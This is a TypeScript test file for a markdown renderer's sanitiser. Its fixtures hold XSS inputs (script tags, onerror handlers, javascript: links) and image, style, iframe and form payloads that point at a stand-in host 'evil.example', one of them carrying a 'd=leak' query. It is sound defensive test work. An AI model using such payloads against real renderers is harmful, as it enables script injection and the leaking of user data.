import { isAllowedImageSource, renderMarkdown } from './markdown-renderer';

const options = { origin: 'http://127.0.0.1:8000', labels: { copyCode: 'Copy code', imageBlocked: 'Remote image blocked' } };

function render(markdown: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = renderMarkdown(markdown, options);
  return host;
}

describe('renderMarkdown', () => {
  it('Scenario: scripts and event handlers are stripped', () => {
    const host = render('Hi <script>alert(1)</script><img src="data:image/png;base64,AAAA" onerror="alert(2)"><a href="javascript:alert(3)">x</a>');
    expect(host.querySelector('script')).toBeNull();
    expect(host.querySelector('img')?.getAttribute('onerror')).toBeNull();
    expect(host.querySelector('a')?.getAttribute('href')).toBeNull();
    expect(host.textContent).toContain('Hi');
  });

  it('Scenario: remote images are removed (Markdown and raw HTML)', () => {
    const host = render('![secret](https://evil.example/x.png?d=leak)\n\n<img src="http://evil.example/y.png" srcset="http://evil.example/z.png 2x">');
    const images = Array.from(host.querySelectorAll('img'));
    expect(images.every((image) => !image.hasAttribute('src') && !image.hasAttribute('srcset'))).toBe(true);
    expect(host.innerHTML).not.toContain('evil.example');
    expect(host.querySelector('.cc-image-blocked')?.textContent).toBe('Remote image blocked: secret');
  });

  it('keeps data: and same-origin images', () => {
    const host = render('![a](data:image/png;base64,iVBORw0KGgo=) ![b](/CashLogo.png)');
    const sources = Array.from(host.querySelectorAll('img')).map((image) => image.getAttribute('src'));
    expect(sources).toEqual(['data:image/png;base64,iVBORw0KGgo=', '/CashLogo.png']);
  });

  it('removes inline styles, forms, iframes and SVG (remote loads and phishing)', () => {
    const host = render(
      '<p style="background:url(https://evil.example/bg)">s</p><iframe src="https://evil.example"></iframe>' +
        '<form action="https://evil.example"><input name="q"></form><svg><image href="https://evil.example/i.png"/></svg>',
    );
    expect(host.innerHTML).not.toContain('evil.example');
    expect(host.querySelector('[style], iframe, form, input, svg')).toBeNull();
  });

  it('Scenario: links open in a new tab without an opener', () => {
    const link = render('[docs](https://example.com/docs)').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.com/docs');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('renders GFM tables with cells', () => {
    const host = render('| a | b |\n|---|---|\n| 1 | 2 |');
    expect(host.querySelector('.cc-table table')).not.toBeNull();
    expect(Array.from(host.querySelectorAll('td')).map((cell) => cell.textContent)).toEqual(['1', '2']);
  });

  it('highlights known languages and adds a copy button to code blocks', () => {
    const host = render('```ts\nconst x: number = 1;\n```\n\n```unknown\n<b>raw</b>\n```');
    const blocks = host.querySelectorAll('.cc-code');
    expect(blocks).toHaveLength(2);
    expect(blocks[0].querySelector('code.language-ts .hljs-keyword')?.textContent).toBe('const');
    expect(blocks[0].querySelector('button[data-copy-code]')?.getAttribute('aria-label')).toBe('Copy code');
    expect(blocks[1].querySelector('code')?.textContent).toBe('<b>raw</b>');
    expect(blocks[1].querySelector('code b')).toBeNull();
  });
});

describe('isAllowedImageSource', () => {
  it('allows only data:image and same-origin URLs', () => {
    expect(isAllowedImageSource('data:image/gif;base64,R0lG', options.origin)).toBe(true);
    expect(isAllowedImageSource('/a.png', options.origin)).toBe(true);
    expect(isAllowedImageSource('http://127.0.0.1:8000/a.png', options.origin)).toBe(true);
    expect(isAllowedImageSource('http://127.0.0.1:9999/a.png', options.origin)).toBe(false);
    expect(isAllowedImageSource('//evil.example/a.png', options.origin)).toBe(false);
    expect(isAllowedImageSource('data:text/html,<script>', options.origin)).toBe(false);
    expect(isAllowedImageSource('', options.origin)).toBe(false);
  });
});
